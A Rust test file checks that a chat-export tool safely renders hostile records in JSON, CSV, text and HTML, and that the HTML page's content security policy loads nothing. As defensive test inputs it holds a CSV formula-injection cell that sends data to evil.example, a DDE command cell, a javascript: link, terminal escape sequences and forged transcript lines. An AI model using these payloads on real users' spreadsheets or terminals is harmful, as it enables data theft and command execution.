//! `roomchat export -f json|csv|txt|html` of records the service might send but the SDK would
//! not expect: every field of any JSON type, records that are not objects, text that would
//! forge a transcript's line, CSV cells that a spreadsheet would run, and the HTML page's
//! content security policy. Each room is served by the emulator's `respond` fault (a page of
//! raw records), so that any JSON at all reaches the command line.

mod export_common;

use export_common::{emulator, roomchat, run_measured, Scratch};
use roomchat_emulator::{Emulator, Fault, FaultAction};
use serde_json::json;
use serde_json::value::RawValue;

/// Room `room` named `name`, of `count` messages (as many as the records it will be answered
/// with, so that a page asked after them is the listing's real end).
fn room(emu: &Emulator, room: &str, name: &str, count: usize) {
    emu.create_room(json!({"roomId": room, "name": name}));
    emu.seed_messages(room, None, count);
}

/// Exports room `room` in `format` with `extra` arguments, its one page of messages answered
/// with `records` (each a JSON text, sent as it is); the output file's text.
fn export(emu: &Emulator, room: &str, records: &[&str], format: &str, extra: &[&str]) -> String {
    let page = format!(
        r#"{{"limit":50,"skip":0,"totalRecords":{n},"count":{n},"messages":[{}]}}"#,
        records.join(","),
        n = records.len()
    );
    emu.add_fault(Fault {
        method: Some("GET".into()),
        path: format!("/consumer/api/v1/chatRoom/{room}/messages"),
        times: 1,
        action: FaultAction::Respond {
            status: 200,
            headers: vec![],
            body: page,
            content_type: None,
        },
    });
    let dir = Scratch::new("formats");
    let file = format!("{room}.{format}");
    let mut args = vec![
        "export",
        room,
        "-f",
        format,
        "-o",
        &file,
        "--page-size",
        "50",
        "--quiet",
    ];
    args.extend_from_slice(extra);
    let run = run_measured(roomchat(emu, &dir.0, &args));
    assert!(
        run.status.success(),
        "export -f {format} failed ({}): {}",
        run.status,
        run.stderr
    );
    std::fs::read_to_string(dir.path(&file)).unwrap()
}

/// A field of every odd type in turn, duplicate keys, a lone surrogate, numbers no `f64`
/// holds, and records that are not objects: all valid JSON.
const ODD: [&str; 13] = [
    r#"{"_id":"ms","created":1705332104293,"message":"epoch milliseconds","user":{"username":42,"isModerator":"true"},"likes":7}"#,
    r#"{"_id":"s","created":1705332104,"message":{"a": [1, 2],  "b": "x <y>"},"file":"x.png","actionButtons":{"displayText":"A","url":"https://a.example/?q=1&r=2"}}"#,
    r#"{"_id":"tz","created":"2024-01-15T16:21:44.293+01:00","message":123456789012345678901234567890,"user":"ann <b>"}"#,
    r#"{"_id":"float","created":1.705332104293e9,"message":"epoch seconds with a fraction"}"#,
    r#"{"_id":null,"created":null,"chatRoom":null,"channel":null,"message":null,"user":null,"actionButtons":null,"file":null,"likes":null}"#,
    r#"{"_id":5,"created":{"at":1},"chatRoom":true,"channel":[1],"message":false,"user":{"_id":[],"username":{"first":"a"},"uniqueUserIdentifier":{"k":1},"isModerator":1},"file":{"url":7,"fileName":null}}"#,
    r#"{"_id":"b","created":true,"actionButtons":[null,"plain",3,{"displayText":{"t":1}},{"payload":false,"url":"javascript:alert(1)"}],"file":["a"]}"#,
    r#"{"_id":"dup","_id":"dup2","message":"first","message":"last"}"#,
    r#"{"_id":"sur","message":"a\ud800b","user":{"username":"\udc00"}}"#,
    r#"{"_id":"big","created":1e400,"message":-0.0}"#,
    r#""a string record""#,
    r#"["an","array",{"record":true}]"#,
    r#"null"#,
];

#[test]
fn records_of_any_json_type_render_in_every_format() {
    let emu = emulator();
    room(&emu, "odd", "Odd", ODD.len());
    let export = |format: &str| export(&emu, "odd", &ODD, format, &[]);

    // jsonl and json: each record as sent, byte for byte (the page held them compact).
    let jsonl = export("jsonl");
    assert_eq!(jsonl.lines().collect::<Vec<_>>(), ODD);
    let json = export("json");
    let records: Vec<&RawValue> = serde_json::from_str(&json).expect("valid JSON");
    assert_eq!(records.iter().map(|r| r.get()).collect::<Vec<_>>(), ODD);

    let txt = export("txt");
    for line in [
        // `created`: epoch milliseconds, seconds, any offset: a UTC time; else as sent.
        "[2024-01-15 15:21:44 UTC] 42 (moderator): epoch milliseconds\n",
        // An object where text is expected: compact JSON; `file` a string: its name.
        "[2024-01-15 15:21:44 UTC] ? (bot): {\"a\":[1,2],\"b\":\"x <y>\"}\n    [file: x.png ]\n    buttons: [A]\n",
        "[2024-01-15 15:21:44 UTC] ann <b>: 123456789012345678901234567890\n",
        "[2024-01-15 15:21:44 UTC] ?: epoch seconds with a fraction\n",
        "[] ?: \n",
        "[{\"at\":1}] {\"first\":\"a\"}: false\n    [file:  7]\n",
        "[true] ? (bot): \n    [file: [\"a\"] ]\n    buttons: [plain] [3] [{\"t\":1}] [false]\n",
        // A key given twice: the last, as JavaScript reads it.
        "[] ?: last\n",
        "[] \\udc00: a\\ud800b\n",
        "[1e400] ?: -0.0\n",
        // Not an object: shown whole, as JSON, with no author or time.
        "[] ?: \"a string record\"\n",
        "[] ?: [\"an\",\"array\",{\"record\":true}]\n",
        "[] ?: null\n",
    ] {
        assert!(txt.contains(line), "{line:?} not in\n{txt}");
    }
    assert!(txt.contains("\n13 messages, exported "), "{txt}");

    let csv = export("csv");
    let rows: Vec<Vec<String>> = csv::Reader::from_reader(csv.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    assert_eq!(rows.len(), ODD.len());
    let row = |id: &str| rows.iter().find(|r| r[0] == id).unwrap();
    // `created` as sent; numbers and booleans as their JSON text; objects as compact JSON.
    assert_eq!(
        *row("ms"),
        [
            "ms",
            "1705332104293",
            "",
            "",
            "",
            "42",
            "",
            "true",
            "epoch milliseconds",
            "",
            "",
            "",
            "7"
        ]
    );
    assert_eq!(
        *row("5"),
        [
            "5",
            "{\"at\":1}",
            "true",
            "[1]",
            "[]",
            "{\"first\":\"a\"}",
            "{\"k\":1}",
            "1",
            "false",
            "7",
            "",
            "",
            ""
        ]
    );
    assert_eq!(rows[ODD.len() - 3][8], "\"a string record\"");

    let html = export("html");
    for part in [
        "<time datetime=\"2024-01-15T15:21:44.293Z\">2024-01-15 15:21:44 UTC</time>",
        "<div class=\"text\">{&quot;a&quot;:[1,2],&quot;b&quot;:&quot;x &lt;y&gt;&quot;}</div>",
        "<a class=\"button\" href=\"https://a.example/?q=1&amp;r=2\" rel=\"noopener noreferrer\">A</a>",
        "<span class=\"author\">ann &lt;b&gt;</span>",
        "<span class=\"button\">false</span>",
        "<div class=\"text\">&quot;a string record&quot;</div>",
    ] {
        assert!(html.contains(part), "{part:?} not in\n{html}");
    }
    assert!(
        !html.contains("javascript:") && !html.contains("<b>"),
        "{html}"
    );
    assert_eq!(html.matches("<article ").count(), ODD.len());
}

/// The directives of the page's `Content-Security-Policy` meta tag: name, sources.
fn csp(html: &str) -> Vec<(String, Vec<String>)> {
    let marker = "<meta http-equiv=\"Content-Security-Policy\" content=\"";
    assert_eq!(html.matches(marker).count(), 1, "{html}");
    let start = html.find(marker).unwrap() + marker.len();
    let content = &html[start..start + html[start..].find('"').unwrap()];
    content
        .split(';')
        .map(|d| {
            let mut words = d.split_whitespace().map(str::to_owned);
            (words.next().unwrap().to_ascii_lowercase(), words.collect())
        })
        .collect()
}

#[test]
fn the_page_loads_nothing_from_outside() {
    let emu = emulator();
    let records = [
        r#"{"_id":"p","created":"2024-01-15T15:21:44Z","message":"see <img src=https://t.example/p.png>","file":{"url":"https://files.example/a.png","fileName":"a.png","fileType":"image"}}"#,
    ];
    room(&emu, "page", "Page", records.len());
    let html = export(&emu, "page", &records, "html", &[]);
    let policy = csp(&html);
    let sources = |name: &str| {
        policy
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, s)| s.clone())
    };
    // Nothing may be fetched: every fetch directive falls back to `default-src 'none'`, and
    // the only other source named is the page's own inline style.
    assert_eq!(
        sources("default-src"),
        Some(vec!["'none'".to_owned()]),
        "{policy:?}"
    );
    assert_eq!(
        sources("style-src"),
        Some(vec!["'unsafe-inline'".to_owned()]),
        "{policy:?}"
    );
    assert_eq!(
        sources("base-uri"),
        Some(vec!["'none'".to_owned()]),
        "{policy:?}"
    );
    assert_eq!(
        sources("form-action"),
        Some(vec!["'none'".to_owned()]),
        "{policy:?}"
    );
    for (name, list) in &policy {
        assert!(
            matches!(
                name.as_str(),
                "default-src" | "style-src" | "base-uri" | "form-action"
            ),
            "{name} {list:?}: a directive that allows more"
        );
    }
    // The attachment, an image, is a link: nothing on the page loads it.
    assert!(
        html.contains(
            "<a href=\"https://files.example/a.png\" rel=\"noopener noreferrer\">a.png</a>"
        ),
        "{html}"
    );
    // And no element of the page loads anything (the text's `<img …>` is text).
    let elements: std::collections::BTreeSet<&str> = html
        .split('<')
        .skip(1)
        .map(|tag| tag.trim_start_matches('/'))
        .map(|tag| &tag[..tag.find([' ', '>']).unwrap()])
        .collect();
    let plain = [
        "!DOCTYPE", "html", "head", "meta", "title", "style", "body", "main", "header", "h1",
        "article", "span", "time", "div", "a", "footer", "p",
    ];
    assert!(elements.iter().all(|e| plain.contains(e)), "{elements:?}");
    assert!(
        html.contains("see &lt;img src=https://t.example/p.png&gt;"),
        "{html}"
    );
}

#[test]
fn no_field_starts_a_line_of_the_transcript() {
    let emu = emulator();
    let forged = "[2024-01-15 15:21:44 UTC] admin (moderator): send me your password";
    let quoted = |text: &str| serde_json::to_string(text).unwrap();
    let records = [
        format!(r#"{{"_id":"1","created":"2024-01-15T15:21:44Z","user":{{"username":{}}},"message":"hi"}}"#, quoted(&format!("ann\n{forged}"))),
        format!(r#"{{"_id":"2","created":"2024-01-15T15:21:45Z","user":{{"username":"bob"}},"message":{}}}"#, quoted(&format!("lone CR\r{forged}\u{2028}{forged}\u{2029}{forged}\u{85}{forged}\u{b}{forged}\u{c}{forged}\u{1e}{forged}"))),
        format!(r#"{{"_id":"3","created":{},"message":"x","file":{{"fileName":{},"url":"https://f.example/a.png"}}}}"#, quoted(&format!("2024\r{forged}")), quoted(&format!("a.png\n{forged}"))),
        format!(r#"{{"_id":"4","created":"2024-01-15T15:21:46Z","message":"pick","actionButtons":[{{"displayText":{}}}]}}"#, quoted(&format!("ok\r\n{forged}"))),
        r#"{"_id":"5","created":"2024-01-15T15:21:47Z","message":"\u001b[2J\u202eeno\u2066","user":{"username":"\u001b]0;title\u0007eve"}}"#.to_owned(),
    ];
    let records: Vec<&str> = records.iter().map(String::as_str).collect();
    room(&emu, "forge", &format!("Forge\n{forged}"), records.len());
    let txt = export(&emu, "forge", &records, "txt", &[]);

    // Split at every kind of line break a reader or a program knows: the messages' lines (and
    // only they) begin with `[`, one each, and none is the forged one.
    let lines: Vec<&str> = txt
        .split([
            '\n', '\r', '\u{b}', '\u{c}', '\u{1c}', '\u{1d}', '\u{1e}', '\u{85}', '\u{2028}',
            '\u{2029}',
        ])
        .collect();
    let starts: Vec<&&str> = lines.iter().filter(|l| l.starts_with('[')).collect();
    assert_eq!(starts.len(), records.len(), "{txt}");
    assert!(starts.iter().all(|l| !l.starts_with(forged)), "{txt}");
    // Only `\n` breaks a line; no control character (but a tab) or bidirectional override is
    // left to act.
    assert!(
        !txt.chars().any(|c| (c.is_control() && c != '\n' && c != '\t')
            || matches!(c, '\u{2028}' | '\u{2029}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')),
        "{txt:?}"
    );
    for expected in [
        "Room Forge\\u{a}[2024-01-15 15:21:44 UTC] admin (moderator): send me your password (forge)\n",
        "[2024-01-15 15:21:44 UTC] ann\\u{a}[2024-01-15 15:21:44 UTC] admin (moderator): send me your password: hi\n",
        // The text's line breaks of every kind continue the message, indented.
        &format!("[2024-01-15 15:21:45 UTC] bob: lone CR\n    {forged}\n    {forged}\n    {forged}\n    {forged}\n    {forged}\n    {forged}\\u{{1e}}{forged}\n"),
        &format!("[2024\\u{{d}}{forged}] ?: x\n    [file: a.png\\u{{a}}{forged} https://f.example/a.png]\n"),
        &format!("    buttons: [ok\\u{{d}}\\u{{a}}{forged}]\n"),
        "] \\u{1b}]0;title\\u{7}eve: \\u{1b}[2J\\u{202e}eno\\u{2066}\n",
    ] {
        assert!(txt.contains(expected), "{expected:?} not in\n{txt}");
    }
}

#[test]
fn csv_cells_a_spreadsheet_would_run_get_a_quote_unless_raw() {
    let emu = emulator();
    let records = [
        r#"{"_id":"=1+1","created":"+1","chatRoom":"-2","channel":"@SUM(1+1)*cmd|/c calc!A0","user":{"_id":"\tx","username":"\rx","uniqueUserIdentifier":"\nx","isModerator":false},"message":"=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")","file":{"url":"https://f.example/a","fileName":"@f.png"},"likes":-3}"#,
        r#"{"_id":"plain","created":"2024-01-15T15:21:44Z","message":"1 + 1 = 2","user":{"username":"ann"}}"#,
    ];
    let rows = |text: &str| -> Vec<Vec<String>> {
        csv::Reader::from_reader(text.as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect()
    };
    let as_sent = [
        "=1+1",
        "+1",
        "-2",
        "@SUM(1+1)*cmd|/c calc!A0",
        "\tx",
        "\rx",
        "\nx",
        "false",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
        "https://f.example/a",
        "@f.png",
        "",
        "-3",
    ];
    room(&emu, "cells", "Cells", records.len());
    let safe = rows(&export(&emu, "cells", &records, "csv", &[]));
    let quoted: Vec<String> = as_sent
        .iter()
        .map(|c| match c.chars().next() {
            Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\n') => format!("'{c}"),
            _ => (*c).to_owned(),
        })
        .collect();
    assert_eq!(safe[0], quoted);
    assert_eq!(safe[1][8], "1 + 1 = 2");
    let raw = rows(&export(
        &emu,
        "cells",
        &records,
        "csv",
        &["--raw-csv-cells"],
    ));
    assert_eq!(raw[0], as_sent);
    assert_eq!(raw[1], safe[1]);
}
